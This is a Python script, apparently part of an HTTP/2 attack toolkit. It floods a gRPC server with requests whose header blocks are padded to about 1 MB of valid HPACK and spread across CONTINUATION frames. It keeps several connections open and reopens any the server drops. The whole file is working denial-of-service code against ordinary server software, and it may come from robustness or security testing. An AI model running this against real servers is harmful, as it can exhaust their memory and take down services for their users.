"""Oversized header block: requests whose header block is --block-size bytes (1 MB by default),
valid HPACK, in HEADERS and CONTINUATION frames of 16 KB. A connection the server ends is replaced.
"""
import time

import attack
import grpc_wire
import h2frames as f
from continuation_flood import hpack_length


def padded_block(authority, size):
    fields = [(name, value, True) for name, value in grpc_wire.request_headers(authority, grpc_wire.HEALTH_CHECK)]
    block = bytearray(grpc_wire.new_encoder().encode(fields))
    i = 0
    while len(block) < size:
        name = f"x-pad-{i}".encode()
        # Literal never indexed, new name (RFC 7541 6.2.3).
        block += b"\x10" + hpack_length(len(name)) + name + hpack_length(1000) + b"p" * 1000
        i += 1
    return bytes(block)


def main():
    p = attack.parser(__doc__, duration=3.0, connections=2, rate_help="requests per second per connection (0 = as fast as possible)")
    p.add_argument("--block-size", type=int, default=1 << 20, help="bytes of each header block [1048576]")
    args = p.parse_args()
    report = attack.Report("oversized-header-block", args)
    slots = [None] * args.connections
    started = time.monotonic()
    sent = 0
    while report.elapsed() < args.duration:
        for i, slot in enumerate(slots):
            if slot is None or not slot[0].usable:
                if slot is not None:
                    slot[0].close()
                    report.sent["reconnects"] += 1
                connection = attack.connect(args.target, report)
                if connection is None or not connection.start():
                    slots[i] = None
                    time.sleep(0.05)
                    continue
                slots[i] = slot = [connection, padded_block(connection.authority, args.block_size), 1]
            connection, block, stream_id = slot
            if connection.send(f.header_block_frames(stream_id, block, f.DEFAULT_MAX_FRAME_SIZE, end_stream=True), timeout=0.5):
                sent += 1
            slot[2] += 2
            connection.drain()
        attack.pace(args.rate * args.connections, started, sent)
    report.sent["requests"] = sent
    for slot in slots:
        if slot is not None:
            slot[0].drain(wait=0.1)
            slot[0].close()
    report.finish()


if __name__ == "__main__":
    main()
